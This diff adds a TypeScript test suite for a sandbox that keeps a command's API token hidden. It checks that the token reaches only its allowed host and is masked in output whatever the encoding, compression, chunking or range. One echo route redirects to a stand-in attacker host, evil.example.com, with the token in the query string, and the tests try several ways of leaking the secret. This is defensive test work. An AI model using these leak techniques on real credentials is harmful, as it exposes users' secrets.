@@ -1,0 +1,191 @@
+import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
+import { connect, type AddressInfo } from 'node:net';
+import { createSecureContext } from 'node:tls';
+import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Secret, SecretPlace, SecretWay } from '../../../secrets/secret.ts';
+import { SandboxBench, TEST_USERS } from '../../../testing/sandbox-bench.ts';
+import { findBubblewrap } from '../../find-bubblewrap.ts';
+import { CommandAuthority } from './authority.ts';
+import type { EdgeSource } from './command-edge.ts';
+
+const VALUE = 'ghp_Zq8e3RtYuIoP0aSdFgHjKlXcVbNm1234567';
+const HOST = 'api.example.com';
+const [USER = 'user'] = TEST_USERS;
+
+const secret = (name: string, as: SecretWay, place: Partial<SecretPlace> = {}, value = VALUE): Secret => ({
+  name,
+  also: [],
+  texts: {},
+  places: [{ scheme: 'https', host: HOST, port: 443, as, ...place }],
+  value,
+  added: '',
+});
+
+/** A server that shows what it got, in every way in which servers do. */
+function echo(seen: string[]) {
+  return (request: IncomingMessage, response: ServerResponse): void => {
+    seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
+    const sent = JSON.stringify({ url: request.url, headers: request.headers });
+    const [path = '/'] = (request.url ?? '/').split('?', 1);
+    const authorization = request.headers.authorization ?? '';
+    const ways: Record<string, () => void> = {
+      '/plain': () => response.setHeader('content-length', Buffer.byteLength(sent)).end(sent),
+      '/header': () =>
+        response
+          .setHeader('x-echo', authorization)
+          .setHeader('set-cookie', [`a=${authorization}`, 'b=1'])
+          .end('ok'),
+      '/gzip': () => response.setHeader('content-encoding', 'gzip').end(gzipSync(sent)),
+      '/deflate': () => response.setHeader('content-encoding', 'deflate').end(deflateSync(sent)),
+      '/br': () => response.setHeader('content-encoding', 'br').end(brotliCompressSync(sent)),
+      '/twice': () => response.setHeader('content-encoding', 'gzip, br').end(brotliCompressSync(gzipSync(sent))),
+      '/unknown': () => response.setHeader('content-encoding', 'rot13').end(sent),
+      '/base64': () => response.end(Buffer.from(sent).toString('base64')),
+      '/hex': () => response.end(Buffer.from(sent).toString('hex')),
+      '/error': () => response.writeHead(500).end(`<h1>Error</h1><pre>${sent}</pre>`),
+      '/redirect': () => response.writeHead(302, { location: `https://evil.example.com/?t=${authorization.slice(7)}` }).end(),
+      '/chunks': () => {
+        let at = 0;
+        const next = (): void => {
+          if (at >= sent.length) response.end();
+          else response.write(sent.slice(at, (at += 5)), () => setImmediate(next));
+        };
+        next();
+      },
+    };
+    if (request.headers.range !== undefined) {
+      response.writeHead(206).end(sent.slice(...(/(\d+)-(\d+)/u.exec(request.headers.range) ?? []).slice(1).map(Number)));
+      return;
+    }
+    (ways[path] ?? ways['/plain'])?.();
+  };
+}
+
+describe.skipIf((await findBubblewrap()) === undefined || !process.features.typescript)('a secret of a command', () => {
+  const authority = new CommandAuthority();
+  const seen: string[] = [];
+  const secure = createHttpsServer({ SNICallback: (name, done) => done(null, authority.contextFor(name)) }, echo(seen));
+  const plain = createHttpServer(echo(seen));
+  const portOf = (server: typeof plain | typeof secure): number => (server.address() as AddressInfo).port;
+
+  beforeAll(async () => {
+    await Promise.all([secure, plain].map((server) => new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))));
+  });
+  afterAll(() => {
+    for (const server of [secure, plain]) {
+      server.closeAllConnections();
+      server.close();
+    }
+  });
+
+  const open = async (secrets: readonly Secret[], domains: readonly string[] = [HOST], source: Partial<EdgeSource> = {}): Promise<SandboxBench> =>
+    await SandboxBench.open(USER, {
+      policy: { network: { domains } },
+      network: {
+        resolve: async (host) => (host === 'localhost' ? ['127.0.0.1'] : ['93.184.216.34']),
+        dial: (_, port) => connect(port === 443 ? portOf(secure) : portOf(plain), '127.0.0.1'),
+        verifying: () => createSecureContext({ ca: authority.certificate }),
+      },
+      edge: { exist: () => true, secrets: () => secrets, opensLocal: () => false, denied: () => [], ...source },
+    });
+
+  it('is a placeholder in the command, and the value at its host', async () => {
+    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
+    const { stdout } = await bench.inside(`echo "$TOKEN"; curl -sS https://${HOST}/plain`);
+    expect(stdout).toMatch(/^ghp_[\da-z]{35}\n/u);
+    expect(stdout).not.toContain(VALUE);
+    expect(stdout).toContain(`"authorization":"Bearer ${'*'.repeat(VALUE.length)}"`);
+    expect(seen.at(-1)).toContain(`"authorization":"Bearer ${VALUE}"`);
+  });
+
+  it.each(['plain', 'header', 'gzip', 'deflate', 'br', 'twice', 'base64', 'hex', 'error', 'redirect', 'chunks', 'unknown'])(
+    'does not come back by /%s',
+    async (way) => {
+      await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
+      const { stdout, stderr } = await bench.inside(
+        `curl -sSi --compressed https://${HOST}/${way} | tee raw; base64 -d raw 2>/dev/null; xxd -r -p raw 2>/dev/null`,
+      );
+      expect(seen.at(-1)).toContain(`Bearer ${VALUE}`);
+      for (const text of [VALUE, Buffer.from(VALUE).toString('hex'), Buffer.from(VALUE).toString('base64').slice(0, 40)])
+        expect(stdout + stderr).not.toContain(text);
+      if (way !== 'unknown') expect(stdout).toMatch(/\*{8}/u);
+      else expect(stdout).toMatch(/ 502 /u);
+    },
+  );
+
+  it('does not come back in parts', async () => {
+    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
+    const { stdout } = await bench.inside(`for i in 0 20 40 60 80 100 120 140 160; do curl -sS -r $i-$((i+20)) https://${HOST}/plain; done`);
+    for (let at = 4; at + 12 < VALUE.length; at += 1) expect(stdout).not.toContain(VALUE.slice(at, at + 12));
+  });
+
+  it.each<readonly [string, SecretWay, string, string]>([
+    ['basic', { kind: 'basic', user: 'me' }, `curl -sS https://${HOST}/plain`, Buffer.from(`me:${VALUE}`).toString('base64')],
+    ['a header', { kind: 'header', name: 'x-api-key' }, `curl -sS https://${HOST}/plain`, `"x-api-key":"${VALUE}"`],
+    ['a parameter', { kind: 'query', name: 'key' }, `curl -sS https://${HOST}/plain?a=1`, `/plain?a=1&key=${VALUE}`],
+    ['a variable', { kind: 'env' }, `curl -sS -H "Authorization: token $TOKEN" https://${HOST}/plain`, `token ${VALUE}`],
+    ['a variable as a password', { kind: 'env' }, `curl -sS -u "me:$TOKEN" https://${HOST}/plain`, Buffer.from(`me:${VALUE}`).toString('base64')],
+  ])('goes as %s', async (_, as, command, expected) => {
+    await using bench = await open([secret('TOKEN', as)]);
+    const { stdout } = await bench.inside(command);
+    expect(seen.at(-1)).toContain(expected);
+    expect(stdout).not.toContain(VALUE);
+    expect(stdout).toMatch(/\*{8}/u);
+  });
+
+  it('goes to no other host, and not without encryption', async () => {
+    await using bench = await open([secret('TOKEN', { kind: 'env' })], [HOST, 'other.example.com']);
+    const sent = (url: string): string => `curl -sS -k -H "Authorization: Bearer $TOKEN" ${url}; `;
+    const before = seen.length;
+    await bench.inside(sent('https://other.example.com/plain') + sent('http://other.example.com/plain') + sent(`http://${HOST}/plain`));
+    expect(seen.slice(before)).toHaveLength(3);
+    expect(seen.slice(before).join()).not.toContain(VALUE);
+  });
+
+  it.each([
+    [false, 0],
+    [true, 1],
+  ])('goes to this machine without encryption only where a rule opens it: %s', async (isOpen, times) => {
+    const here = secret('TOKEN', { kind: 'bearer' }, { scheme: 'http', host: 'localhost', port: 8080 });
+    await using bench = await open([here], ['localhost:8080'], { opensLocal: () => isOpen });
+    const before = seen.length;
+    const { stdout } = await bench.inside('curl -sS http://localhost:8080/plain; echo "[$TOKEN]"');
+    expect(seen.slice(before).filter((line) => line.includes(VALUE))).toHaveLength(times);
+    expect(stdout).not.toContain(VALUE);
+    expect(stdout.includes('[]')).toBe(!isOpen);
+  });
+
+  it('is there only where the network is open to its host', async () => {
+    await using bench = await open([secret('TOKEN', { kind: 'bearer' })], ['other.example.com']);
+    const { stdout } = await bench.inside('echo "[$TOKEN]"; env | grep -c synapse-bridge/trust');
+    expect(stdout).toBe('[]\n0\n');
+  });
+
+  it('is not in the output of a command that has it from elsewhere', async () => {
+    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
+    const { stdout, stderr } = await bench.inside(`printf '%s' ghp_Zq8e3RtYuIoP; sleep 0.05; echo 0aSdFgHjKlXcVbNm1234567; echo ${VALUE} >&2`);
+    expect(stdout).toBe(`${'*'.repeat(VALUE.length)}\n`);
+    expect(stderr).toBe(`${'*'.repeat(VALUE.length)}\n`);
+  });
+
+  it('stays usable by the usual programs', async () => {
+    await using bench = await open([secret('TOKEN', { kind: 'bearer' })]);
+    const url = `https://${HOST}/plain`;
+    const programs: Record<string, string> = {
+      curl: `curl -sSf ${url}`,
+      wget: `wget -qO- ${url}`,
+      python: `python3 -c 'import urllib.request as r; print(r.urlopen("${url}").read())'`,
+      node: `node -e 'fetch("${url}").then((r) => r.text()).then(console.log)'`,
+      git: `git ls-remote https://${HOST}/x.git`,
+    };
+    for (const [name, command] of Object.entries(programs)) {
+      const before = seen.length;
+      const { stdout, stderr } = await bench.inside(`command -v ${command.split(' ')[0]} >/dev/null || { echo missing; exit; }; ${command}`);
+      if (stdout === 'missing\n') continue;
+      expect([name, stderr.includes('ertificate'), seen.length > before && seen.at(-1)?.includes(VALUE)]).toEqual([name, false, true]);
+      expect(stdout + stderr).not.toContain(VALUE);
+    }
+  });
+});
